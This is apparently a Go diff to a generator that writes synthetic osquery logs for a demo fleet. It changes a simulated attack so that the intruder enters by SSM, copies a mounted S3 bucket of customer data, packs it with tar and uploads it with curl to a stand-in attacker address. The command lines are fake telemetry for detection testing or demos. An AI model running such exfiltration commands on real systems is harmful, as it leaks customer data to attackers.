@@ -17,6 +17,10 @@ type host struct {
 	rows  int
 	// batch tells that its osqueryd logs in batch form.
 	batch bool
+	// instance is the EC2 instance that it is, as its decorations tell; empty for
+	// others. began is when the attack on it did.
+	instance string
+	began    time.Time
 }
 
 // script writes the lines of one host. Columns and values are those that osquery
@@ -29,7 +33,7 @@ type script struct {
 // fleet is three hosts with background noise, and an attack on the first.
 func fleet() []*host {
 	start := time.Now().Add(-10 * time.Minute).Truncate(time.Second)
-	hosts := []*host{{name: "web-01"}, {name: "db-01", batch: true}, {name: "build-03"}}
+	hosts := []*host{{name: "web-01", instance: instance}, {name: "db-01", batch: true}, {name: "build-03"}}
 	for i, h := range hosts {
 		s := script{host: h, now: start}
 		s.boot()
@@ -45,6 +49,9 @@ func fleet() []*host {
 // log writes rows of one run of a query, in the host's form.
 func (s *script) log(query string, rows ...osqueryd.Row) {
 	line := osqueryd.Line{Name: query, HostIdentifier: s.host.name, Time: s.now, Decorations: map[string]string{"environment": "demo"}}
+	if s.host.instance != "" {
+		line.Decorations["instance_id"], line.Decorations["account_id"] = s.host.instance, account
+	}
 	s.host.rows += len(rows)
 	if s.host.batch {
 		s.host.lines = append(s.host.lines, line.Batch(nil, rows))
@@ -68,6 +75,7 @@ func (s *script) boot() {
 	}
 	s.log("processes",
 		list(1, 0, "/usr/lib/systemd/systemd", "/sbin/init"),
+		list(640, 1, "/snap/amazon-ssm-agent/amazon-ssm-agent", "/snap/amazon-ssm-agent/amazon-ssm-agent"),
 		list(700, 1, "/usr/sbin/cron", "/usr/sbin/cron -f"),
 		list(812, 1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]"))
 }
@@ -98,20 +106,27 @@ func (s *script) noise(n, pid int) {
 	}
 }
 
-// attack is somebody who came in by ssh, packed what was found and sent it away.
+// attack is somebody who came in by SSM, read what was in the mounted bucket, took more
+// of it by the API, and sent it away.
 func (s *script) attack() {
-	s.wait(30 * time.Second)
-	s.exec(2101, 812, 0, "/usr/sbin/sshd", "sshd: deploy [priv]")
+	s.wait(10 * time.Second)
+	s.exec(2050, 1, 0, "/usr/bin/mount-s3", "mount-s3 --read-only "+bucket+" /mnt/customers")
+	// The calls of one minute are one link: let none of them fall into the next.
+	s.now = s.now.Add(time.Minute).Truncate(time.Minute)
+	s.host.began = s.now
+	s.exec(2101, 640, 0, "/usr/bin/ssm-session-worker", "/usr/bin/ssm-session-worker "+sessionID)
 	s.wait(time.Second)
 	s.exec(2102, 2101, 1000, "/usr/bin/bash", "-bash")
 	s.wait(20 * time.Second)
 	s.exec(2110, 2102, 1000, "/usr/bin/dash", "sh /tmp/.x/collect.sh")
-	s.exec(2111, 2110, 1000, "/usr/bin/tar", "tar czf /tmp/.x/b.tgz /srv/customers")
+	s.exec(2111, 2110, 1000, "/usr/bin/tar", "tar czf /tmp/.x/b.tgz /mnt/customers/eu/orders.csv")
+	s.exec(2112, 2110, 1000, "/usr/bin/aws", "aws s3 cp --recursive s3://"+bucket+"/ /tmp/.x/")
 	s.wait(5 * time.Second)
 	s.log("pack_demo_file_events", osqueryd.Row{
 		"action": "CREATED", "category": "tmp", "target_path": "/tmp/.x/b.tgz", "time": s.now.Unix(), "uid": 1000, "gid": 1000,
 		"md5": "", "sha1": "", "sha256": "", "size": 48_110_337,
 	})
+	s.wait(5 * time.Second)
 	s.exec(2114, 2110, 1000, "/usr/bin/curl", "curl -sT /tmp/.x/b.tgz https://"+badAddress+"/u")
 	s.connect(2114, "/usr/bin/curl", badAddress, 443)
 	s.wait(10 * time.Second)
